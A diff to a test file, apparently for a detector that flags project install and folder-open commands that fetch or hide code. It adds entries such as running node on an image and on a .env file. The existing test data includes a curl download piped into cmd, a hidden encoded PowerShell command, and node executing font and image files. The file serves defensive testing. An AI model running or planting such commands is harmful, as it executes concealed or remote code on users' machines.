@@ -29,6 +29,8 @@ test.each([
   onInstalling('curl -L https://example.com/model.bin -o model.bin'),
   onInstalling('cp .env.example .env'),
   onInstalling('svgo -f public/icons && node build.mjs'),
+  onInstalling('node scripts/icons.js --out public assets/logo.png'),
+  onInstalling('node build.mjs && cp dist/a.png public/b.png'),
   onOpening('npm run watch'),
   onOpening('docker compose up -d'),
   onOpening('git fetch --all'),
@@ -44,6 +46,7 @@ test.each([
   onInstalling('node -e "fetch(\'https://example.com\')"'),
   onOpening('node public/fonts/fa-solid-400.woff2'),
   onOpening('node ./assets/logo.png'),
+  onOpening('node --no-warnings server/.env'),
   onOpening('curl --ssl-no-revoke -L https://example.com/a.cmd | cmd'),
   onOpening('powershell -w hidden -enc SQBFAFgA'),
 ])('a command that fetches or hides is told: %s', (name) => {
